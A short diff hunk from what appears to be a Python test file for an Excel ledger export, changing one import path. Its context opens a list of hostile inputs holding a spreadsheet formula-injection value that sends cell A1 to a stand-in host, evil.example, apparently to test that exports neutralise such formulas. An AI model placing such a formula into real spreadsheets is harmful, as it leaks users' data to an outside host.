@@ -11,7 +11,7 @@ import io
 
 from openpyxl import load_workbook
 
-from node.reports.excel import FIRST_ROW, HEADERS, LedgerRow, workbook_bytes
+from node.queries.excel import FIRST_ROW, HEADERS, LedgerRow, workbook_bytes
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
